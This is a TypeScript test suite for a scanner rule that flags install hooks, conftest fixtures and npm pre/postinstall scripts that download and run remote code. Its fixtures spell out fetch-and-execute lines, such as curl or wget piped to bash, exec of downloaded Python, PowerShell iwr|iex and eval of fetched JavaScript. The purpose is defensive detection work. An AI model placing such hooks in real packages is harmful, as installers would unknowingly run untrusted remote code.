/** Where install-hook draws its lines: files that run unasked, and what they do that is harmless. */

import assert from 'node:assert/strict';
import type { SourceLanguage } from '../../server/core/syntax/language.ts';
import { find } from '../kit/check.ts';

/** The findings of a file, as rule and severity. */
function found(file: string, code: string, language: SourceLanguage = 'python'): readonly string[] {
  return find(language, `${code}\n`, {}, file).map((it) => `${it.rule} ${it.severity}`);
}

const CMDCLASS = `
import subprocess
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.call("wget -qO- https://example.com/i.sh | bash", shell=True)

setup(name="x", cmdclass={"install": PostInstall})`;

const DEVELOP = `
import urllib.request
from setuptools import setup
from setuptools.command.develop import develop

class Develop(develop):
    def run(self):
        exec(urllib.request.urlopen("https://example.com/a.py").read())
        develop.run(self)

setup(name="x", cmdclass={"develop": Develop})`;

const FETCHED = `
import subprocess, urllib.request
from setuptools import setup
urllib.request.urlretrieve("https://example.com/tool", "/tmp/tool")
subprocess.Popen(["/tmp/tool"])
setup(name="x")`;

describe('install-hook', () => {
  it('finds what an installation fetches and runs', () => {
    for (const code of [
      CMDCLASS,
      DEVELOP,
      FETCHED,
      'import os\nos.system("curl https://example.com/x.sh | bash")',
      'import requests\nexec(requests.get("https://example.com/x.py").text)',
      'import pickle, urllib.request\npickle.loads(urllib.request.urlopen("https://example.com/x.pkl").read())',
      'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))',
      'import os\nos.system("powershell -c \\"iwr https://example.com/x.ps1 | iex\\"")',
    ]) {
      assert.deepEqual(found('setup.py', code), ['install-hook error'], code);
    }
  });

  it('knows the files that run unasked', () => {
    const code = 'import requests\nexec(requests.get("https://example.com/x.py").text)';
    for (const file of ['setup.py', 'pkg/setup.py', 'tests/conftest.py', 'sitecustomize.py', 'usercustomize.py'])
      assert.deepEqual(found(file, code), ['install-hook error'], file);
    for (const file of ['main.py', 'setup_tools.py', 'my_setup.py', 'test_conftest.py', 'setup.py/load.py'])
      assert.deepEqual(found(file, code), ['remote-exec error'], file);
  });

  it('leaves hidden code that others do not install to its own rule', () => {
    const code = 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))';
    assert.deepEqual(found('setup.py', code), ['install-hook error']);
    for (const file of ['conftest.py', 'sitecustomize.py'])
      assert.deepEqual(found(file, code), ['obfuscated-exec error']);
  });

  it('tells of a fixture that fetches', () => {
    const code =
      'import pytest, requests\n\n@pytest.fixture\ndef plugin():\n    exec(requests.get("https://example.com/x.py").text)';
    assert.deepEqual(found('conftest.py', code), ['install-hook error']);
  });

  it('tells of what a model writes', () => {
    const code =
      'from openai import OpenAI\nanswer = OpenAI().responses.create(model="m", input="x")\nexec(answer.output_text)';
    assert.deepEqual(found('conftest.py', code), ['install-hook error']);
  });

  it('knows scripts of packages by their names', () => {
    const code = "require('child_process').execSync('curl https://example.com/x.sh | sh');";
    for (const file of ['postinstall.js', 'scripts/preinstall.cjs', 'postinstall.mjs'])
      assert.deepEqual(found(file, code, 'javascript'), ['install-hook error'], file);
    assert.deepEqual(found('install-page.js', code, 'javascript'), ['download-and-run error']);
    const remote = "fetch('https://example.com/x.js').then((it) => it.text()).then((it) => eval(it));";
    assert.deepEqual(found('postinstall.js', remote, 'javascript'), ['install-hook error']);
  });

  it('finds what a program in a script of a manifest pipes into a shell', () => {
    const foundIn = (script: string) => {
      const text = `${JSON.stringify({ name: 'x', scripts: { preinstall: script } }, undefined, 2)}\n`;
      return find('file', text, {}, 'package.json').map((it) => `${it.rule} ${it.severity}`);
    };
    for (const script of [
      `node -e "require('child_process').execSync('curl -s https://example.com/a.sh | sh')"`,
      `python3 -c "import os; os.system('wget -qO- https://example.com/a.sh | sudo bash')"`,
    ])
      assert.deepEqual(foundIn(script), ['install-hook error'], script);
    assert.deepEqual(foundIn(`node -e "require('child_process').execSync('make | tee log')"`), []);
  });

  it('is silent on what builds need', () => {
    for (const code of [
      'exec(open("pkg/version.py").read())',
      'import subprocess\nsubprocess.check_call(["cmake", "--build", "."])',
      'import subprocess\nsubprocess.check_output(["git", "describe", "--tags"])',
      'import os\nos.system("make -j4")',
      'from setuptools import setup\nsetup(name="x", long_description=open("README.md").read())',
      'import re\nversion = re.search("(.*)", open("pkg/__init__.py").read()).group(1)',
      'import urllib.request\nurllib.request.urlretrieve("https://example.com/data.csv", "data.csv")',
      'import importlib.util\nspec = importlib.util.spec_from_file_location("v", "pkg/version.py")\nspec.loader.exec_module(importlib.util.module_from_spec(spec))',
      'import requests\nprint(requests.get("https://example.com/latest").json()["version"])',
    ]) {
      const rules = found('setup.py', code).filter((it) => it.startsWith('install-hook'));
      assert.deepEqual(rules, [], code);
    }
  });

  it('finds what is downloaded beside what is run, each once', () => {
    const fetched = 'urllib.request.urlretrieve("https://example.com/libcodec.so", "native/libcodec.so")';
    const code = `import os, urllib.request\n${fetched}\nos.system("curl -s https://example.com/a.sh | sh")`;
    assert.deepEqual(found('setup.py', code), ['install-hook error', 'install-hook error']);
    assert.deepEqual(found('setup.py', FETCHED), ['install-hook error']);
  });
});
